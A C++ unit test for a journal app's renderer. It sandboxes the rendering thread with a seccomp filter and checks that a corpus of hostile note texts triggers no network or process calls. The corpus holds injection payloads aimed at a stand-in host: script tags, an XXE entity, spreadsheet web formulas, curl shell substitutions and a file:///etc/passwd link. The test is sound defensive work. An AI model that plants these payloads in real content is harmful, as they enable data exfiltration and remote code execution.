// Row 16: a text that is shown asks for nothing. The thread that draws may make no socket and start no program: a filter in
// the kernel counts each try.
#include <gtest/gtest.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <cstddef>
#include <thread>

#include "journal/kinds/private_note.hpp"
#include "journal/vault/writing.hpp"
#include "tests/gui/support/headless_window.hpp"
#include "tests/support/two_people.hpp"

namespace candour::test {
namespace {

namespace model = journal::model;
namespace note = journal::kinds::private_note;

constexpr const char* passphrase = "marble-kitten-sunset-orbit-fox";

std::atomic<int> tries{0};

void count_try(int) { ++tries; }

// From here on each call of this thread that reaches for the network or another program fails and is counted.
bool watch_this_thread() {
  struct sigaction counting {};
  counting.sa_handler = count_try;
  sigaction(SIGSYS, &counting, nullptr);
  constexpr std::array watched{SYS_socket, SYS_connect, SYS_sendto, SYS_sendmsg, SYS_execve, SYS_execveat};
  std::vector<sock_filter> program{BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr))};
  for (const auto call : watched) {
    program.push_back(BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, static_cast<__u32>(call), 0, 1));
    program.push_back(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRAP));
  }
  program.push_back(BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW));
  const sock_fprog filter{static_cast<unsigned short>(program.size()), program.data()};
  return prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0 && prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &filter) == 0;
}

const std::vector<std::string>& hostile_corpus() {
  static const std::vector<std::string> texts{
      "<img src=\"http://192.0.2.1/pixel.png\"><script src='https://192.0.2.1/a.js'></script>",
      "![picture](http://192.0.2.1/pixel.png) [words](javascript:fetch('http://192.0.2.1/'))",
      "<link rel=stylesheet href=//192.0.2.1/a.css><style>@import url(http://192.0.2.1/b.css);</style>",
      "<!DOCTYPE a [<!ENTITY b SYSTEM \"http://192.0.2.1/c.dtd\">]><a>&b;</a>",
      "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://192.0.2.1/d.svg\"/></svg>",
      "file:///etc/passwd \\\\192.0.2.1\\share\\e.ico http://192.0.2.1/f mailto:somebody@192.0.2.1",
      "=HYPERLINK(\"http://192.0.2.1/g\";\"words\") =WEBSERVICE(\"http://192.0.2.1/h\")",
      "$(curl http://192.0.2.1/i) `curl http://192.0.2.1/j` | xdg-open http://192.0.2.1/k",
      "{{#include http://192.0.2.1/l}} \\input{|\"curl http://192.0.2.1/m\"} %s%n%x"};
  return texts;
}

TEST(Rendering, OfAHostileCorpusReachesForNothing) {
  TemporaryFolder folder;
  ManualClock clock{WallTime(std::chrono::hours(24 * 20'525 + 12))};
  HeadlessWindow window{folder.path() / "vault", clock, {}, std::nullopt};
  ASSERT_TRUE(window.press("Just write, for now"));
  ASSERT_TRUE(window.type_into("What the others shall call you", "Dani"));
  ASSERT_TRUE(window.type_into("Passphrase", passphrase));
  ASSERT_TRUE(window.type_into("The same once more", passphrase));
  ASSERT_TRUE(window.press("Make my journal")) << window.lines();
  tries = 0;
  bool is_watched = false;
  int after_one_try = 0;

  std::thread([&] {
    is_watched = watch_this_thread();
    socket(AF_INET, SOCK_STREAM, 0);
    after_one_try = tries.exchange(0);
    for (const auto& text : hostile_corpus()) {
      auto made = window.notebook().desk().vault()->writing().write(model::ItemKind::private_note, {prose(note::text, text)});
      ASSERT_TRUE(made.has_value());
      window.settle();
      window.notebook().desk().carry_out(gui::act::Go{{gui::Screen::entry, *made, {}}});
      window.settle();
      EXPECT_TRUE(window.shows("192.0.2.1")) << "it is shown, as the text that it is: " << text;
      window.notebook().desk().carry_out(gui::act::Go{{gui::Screen::history, *made, {}}});
      window.settle();
    }
  }).join();

  ASSERT_TRUE(is_watched);
  EXPECT_EQ(after_one_try, 1) << "the watch counts what it is to count";
  EXPECT_EQ(tries, 0);
}

}  // namespace
}  // namespace candour::test
